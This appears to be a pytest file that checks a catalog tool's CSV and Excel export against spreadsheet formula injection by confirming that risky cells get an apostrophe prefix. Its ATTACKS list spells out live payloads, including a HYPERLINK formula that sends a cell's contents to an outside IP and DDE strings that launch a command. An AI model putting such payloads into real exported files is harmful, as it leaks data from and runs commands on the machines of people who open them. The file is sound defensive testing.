"""A cell that a spreadsheet would run: never in a CSV, never a formula in a workbook, and still the same text."""

import csv as pycsv
import zipfile

import openpyxl
import pytest

from catalog.formats import csv
from tests.tables import a_row, batch_of, read_csv, read_xlsx, write

ATTACKS = (
    '=HYPERLINK("http://198.51.100.1/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "'''=1+1",
)
HARMLESS = ("", "a=1", " =1", "1-1", "张三", "'quoted'", "（=1）", "1=1")


def cells_of(path):
    """The first column's cells as a spreadsheet would import them: quotes taken off, nothing else."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [row[0] for row in pycsv.reader(file)][1:]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_csv_cell_begins_like_a_formula(tmp_path, attack):
    write("csv", tmp_path, [batch_of([a_row(name=attack)])])
    (cell,) = cells_of(tmp_path / "example.csv")
    assert cell == f"'{attack}"
    assert csv.unguard(cell) == attack


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_stay_as_they_are(tmp_path, text):
    write("csv", tmp_path, [batch_of([a_row(name=text)])])
    assert cells_of(tmp_path / "example.csv") == [text]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_list_cannot_smuggle_a_formula_in(tmp_path, attack):
    write("csv", tmp_path, [batch_of([a_row(name="x", standards=[attack, "GB 1"])])])
    (row,) = read_csv(tmp_path / "example.csv")
    assert row["standards"] == [attack, "GB 1"]
    with (tmp_path / "example.csv").open(encoding="utf-8-sig", newline="") as file:
        _, cells = pycsv.reader(file)
    assert cells[1][0] == "'"


def test_one_guarded_cell_does_not_change_its_neighbours(tmp_path):
    texts = [*HARMLESS, *ATTACKS, *HARMLESS]
    write("csv", tmp_path, [batch_of([a_row(name=text) for text in texts])])
    found = cells_of(tmp_path / "example.csv")
    assert found == [f"'{text}" if text in ATTACKS else text for text in texts]


def test_a_workbook_holds_texts_and_no_formula(tmp_path):
    rows = [a_row(name=attack, standards=[attack]) for attack in ATTACKS]
    write(
        "xlsx", tmp_path, [batch_of(rows)], about=(("fact", "=1+1"),), dictionary=(("h",), ("=1+1",)), tips=("=1",) * 7
    )
    with zipfile.ZipFile(tmp_path / "example.xlsx") as book:
        sheets = [book.read(name) for name in book.namelist() if "sheet" in name]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(tmp_path / "example.xlsx")
    kinds = {cell.data_type for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert [row["name"] for row in read_xlsx(tmp_path / "example.xlsx")] == list(ATTACKS)


def test_the_guard_covers_every_trigger_it_names():
    assert all(csv.guard_text(trigger) == f"'{trigger}" for trigger in csv.TRIGGERS)
